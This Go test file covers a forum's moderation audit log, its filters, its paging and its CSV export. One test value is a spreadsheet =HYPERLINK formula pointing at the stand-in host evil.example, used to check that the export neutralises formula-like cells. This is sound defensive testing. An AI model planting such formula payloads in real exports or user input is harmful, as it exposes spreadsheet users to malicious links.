package moderation_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"coterforum/forum"
	"coterforum/moderation"
)

// TestAuditLog runs one of each moderator action by two moderators and reads
// them back from the log.
func TestAuditLog(t *testing.T) {
	e := newEnv(t)
	mallory := e.member(t, "@Mallory Formule", forum.RoleModerator)
	author := e.member(t, "Aurélie Auditée", forum.RoleMember)
	reporters := []*forum.Member{e.member(t, "R1", forum.RoleMember), e.member(t, "R2", forum.RoleMember), e.member(t, "R3", forum.RoleMember)}
	th, _ := e.newThread(t, e.moderator, "reseaux", "Fil de référence pour l'audit")

	type done struct{ action, target, actor, reason string }
	var want []done
	step := func(action, target, actor, reason string, f func() error) {
		t.Helper()
		e.clock.Advance(time.Minute)
		if err := f(); err != nil {
			t.Fatalf("%s: %v", action, err)
		}
		want = append(want, done{action, target, actor, reason})
	}
	injection := `=HYPERLINK("https://evil.example/?x=1";"cliquez")`
	multiline := "Première ligne ; avec \"guillemets\"\nseconde ligne"

	r1 := e.reply(t, author, th.ID, "Réponse un")
	r2 := e.reply(t, author, th.ID, "Réponse deux")
	r3 := e.reply(t, author, th.ID, "Réponse trois")
	step("post.approve", r1.ID, e.moderator.ID, "", func() error { return e.mod.Approve(e.ctx, e.moderator, r1.ID, nil) })
	step("post.reject", r2.ID, mallory.ID, injection, func() error { return e.mod.Reject(e.ctx, mallory, r2.ID, injection) })
	step("post.undo_reject", r2.ID, e.moderator.ID, "", func() error { return e.mod.UndoReject(e.ctx, e.moderator, r2.ID) })
	step("post.reject", r3.ID, e.moderator.ID, multiline, func() error { return e.mod.Reject(e.ctx, e.moderator, r3.ID, multiline) })
	step("post.hide", r1.ID, mallory.ID, "+33 6 00 00 00 00 publié", func() error { return e.mod.Hide(e.ctx, mallory, r1.ID, "+33 6 00 00 00 00 publié") })
	step("post.restore", r1.ID, e.moderator.ID, "", func() error { return e.mod.Restore(e.ctx, e.moderator, r1.ID) })
	step("thread.lock", th.ID, mallory.ID, "-Verrouillé", func() error {
		_, err := e.mod.UpdateThread(e.ctx, mallory, th.ID, moderation.ThreadInput{Locked: ptr(true), Reason: "-Verrouillé"})
		return err
	})
	step("member.suspend", author.ID, e.admin.ID, "Suspendu une semaine.", func() error {
		_, err := e.mod.UpdateMember(e.ctx, e.admin, author.ID, moderation.MemberInput{Suspend: "7d", Reason: "Suspendu une semaine."})
		return err
	})
	step("member.unsuspend", author.ID, e.admin.ID, "", func() error {
		_, err := e.mod.UpdateMember(e.ctx, e.admin, author.ID, moderation.MemberInput{Suspend: "none"})
		return err
	})
	for _, r := range reporters[:2] {
		if err := e.mod.Report(e.ctx, r, th.FirstPostID, "Signalement"); err != nil {
			t.Fatal(err)
		}
	}
	step("post.auto_hide", th.FirstPostID, "system", "Masqué après signalements, en attente d'examen.", func() error {
		return e.mod.Report(e.ctx, reporters[2], th.FirstPostID, "Signalement")
	})
	step("reports.dismiss", th.FirstPostID, mallory.ID, "", func() error { return e.mod.DismissReports(e.ctx, mallory, th.FirstPostID) })
	// DismissReports of an auto-hidden post restores it in the same step.
	want = append(want, done{"post.restore", th.FirstPostID, mallory.ID, ""})

	all, err := e.mod.Audit(e.ctx, e.moderator, moderation.AuditFilter{})
	if err != nil {
		t.Fatal(err)
	}
	if len(all) != len(want) {
		for _, a := range all {
			t.Logf("%s %s by %s", a.Action, a.TargetID, a.Actor.ID)
		}
		t.Fatalf("%d entries, want %d", len(all), len(want))
	}
	// Newest first.
	for i, w := range want {
		a := all[len(all)-1-i]
		if a.Action != w.action || a.TargetID != w.target || a.Actor.ID != w.actor || a.Reason != w.reason || a.Actor.DisplayName == "" || a.ID == "" {
			t.Fatalf("entry %d = %+v, want %+v", i, a, w)
		}
		if i > 0 && a.At.Before(all[len(all)-i].At) {
			t.Fatalf("entries out of order at %d", i)
		}
	}

	// Filters.
	filters := []struct {
		name string
		f    moderation.AuditFilter
		want int
	}{
		{"action", moderation.AuditFilter{Action: "post.reject"}, 2},
		{"actor", moderation.AuditFilter{ActorID: mallory.ID}, 5},
		{"actor and action", moderation.AuditFilter{ActorID: mallory.ID, Action: "post.reject"}, 1},
		{"system actor", moderation.AuditFilter{ActorID: "system"}, 1},
		{"target post", moderation.AuditFilter{TargetID: r1.ID}, 3},
		{"target thread (and its posts)", moderation.AuditFilter{TargetID: th.ID}, len(want) - 2},
		{"target member", moderation.AuditFilter{TargetID: author.ID}, 2},
		{"unknown action", moderation.AuditFilter{Action: "post.nothing"}, 0},
		{"since", moderation.AuditFilter{Since: t0.Add(8 * time.Minute)}, 5},
		{"until", moderation.AuditFilter{Until: t0.Add(3 * time.Minute)}, 2},
		{"since and until", moderation.AuditFilter{Since: t0.Add(2 * time.Minute), Until: t0.Add(4 * time.Minute)}, 2},
		{"limit", moderation.AuditFilter{Limit: 3}, 3},
		{"skip", moderation.AuditFilter{Skip: 10}, len(want) - 10},
	}
	for _, tt := range filters {
		t.Run(tt.name, func(t *testing.T) {
			es, err := e.mod.Audit(e.ctx, e.admin, tt.f)
			if err != nil {
				t.Fatal(err)
			}
			if len(es) != tt.want {
				t.Fatalf("%d entries, want %d", len(es), tt.want)
			}
			for _, a := range es {
				if tt.f.Action != "" && a.Action != tt.f.Action || tt.f.ActorID != "" && a.Actor.ID != tt.f.ActorID {
					t.Fatalf("entry %+v does not match %+v", a, tt.f)
				}
			}
		})
	}

	// CSV export.
	var buf bytes.Buffer
	if err := e.mod.WriteAuditCSV(e.ctx, e.moderator, moderation.AuditFilter{}, &buf); err != nil {
		t.Fatal(err)
	}
	rows := readAuditCSV(t, buf.Bytes())
	header := "date;moderateur;action;cible;identifiant;fil;avant;apres;raison"
	if strings.Join(rows[0], ";") != header {
		t.Fatalf("header = %v", rows[0])
	}
	if len(rows) != 1+len(all) {
		t.Fatalf("%d rows, want %d + header", len(rows)-1, len(all))
	}
	for i, a := range all {
		row := rows[i+1]
		if row[0] != a.At.Format(time.RFC3339) || row[2] != a.Action || row[4] != a.TargetID || row[5] != a.ThreadID {
			t.Fatalf("row %d = %v for entry %+v", i, row, a)
		}
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Fatalf("row %d has a formula-like cell %q", i, cell)
			}
		}
	}
	byReason := map[string][]string{}
	for _, row := range rows[1:] {
		byReason[row[2]+"|"+row[4]] = row
	}
	if row := byReason["post.reject|"+r2.ID]; row[8] != "'"+injection || row[1] != "'@Mallory Formule" {
		t.Fatalf("injection row = %q", row)
	}
	if row := byReason["post.reject|"+r3.ID]; row[8] != multiline || row[1] != e.moderator.DisplayName {
		t.Fatalf("multiline reason row = %q", row)
	}
	if row := byReason["post.hide|"+r1.ID]; row[8] != "'+33 6 00 00 00 00 publié" {
		t.Fatalf("hide reason cell = %q", row[8])
	}
	if row := byReason["thread.lock|"+th.ID]; row[8] != "'-Verrouillé" || !strings.Contains(row[7], "verrouillé") {
		t.Fatalf("lock row = %q", row)
	}

	// The export honours the filter.
	buf.Reset()
	if err := e.mod.WriteAuditCSV(e.ctx, e.admin, moderation.AuditFilter{Action: "post.reject"}, &buf); err != nil {
		t.Fatal(err)
	}
	if rows := readAuditCSV(t, buf.Bytes()); len(rows) != 3 || rows[1][2] != "post.reject" || rows[2][2] != "post.reject" {
		t.Fatalf("filtered export: %q", rows)
	}
}

func readAuditCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	const bom = "\ufeff"
	if !bytes.HasPrefix(data, []byte(bom)) {
		t.Fatalf("export does not start with a BOM: %q", data[:min(len(data), 10)])
	}
	r := csv.NewReader(bytes.NewReader(data[len(bom):]))
	r.Comma = ';'
	r.FieldsPerRecord = 9
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("export does not parse as CSV: %v\n%s", err, data)
	}
	if len(rows) == 0 {
		t.Fatal("empty export")
	}
	return rows
}

// TestAuditCSVPages exports more entries than one page of the log.
func TestAuditCSVPages(t *testing.T) {
	e := newEnv(t)
	const n = moderation.MaxAuditPage + 37
	for i := 0; i < n; i++ {
		a := &moderation.AuditEntry{ID: forum.NewID(), At: t0.Add(time.Duration(i) * time.Second), Actor: e.moderator.Ref(),
			Action: "thread.pin", TargetType: "thread", TargetID: fmt.Sprintf("t%03d", i), Reason: fmt.Sprintf("raison %d", i)}
		if err := e.st.InsertAudit(e.ctx, a); err != nil {
			t.Fatal(err)
		}
	}
	page, err := e.mod.Audit(e.ctx, e.moderator, moderation.AuditFilter{Limit: 10000})
	if err != nil {
		t.Fatal(err)
	}
	if len(page) != moderation.MaxAuditPage || page[0].TargetID != fmt.Sprintf("t%03d", n-1) {
		t.Fatalf("one page = %d entries starting at %s", len(page), page[0].TargetID)
	}
	var buf bytes.Buffer
	if err := e.mod.WriteAuditCSV(e.ctx, e.moderator, moderation.AuditFilter{}, &buf); err != nil {
		t.Fatal(err)
	}
	rows := readAuditCSV(t, buf.Bytes())
	if len(rows) != n+1 {
		t.Fatalf("%d rows, want %d", len(rows)-1, n)
	}
	seen := map[string]bool{}
	for _, row := range rows[1:] {
		if seen[row[4]] {
			t.Fatalf("entry %s exported twice", row[4])
		}
		seen[row[4]] = true
	}
}
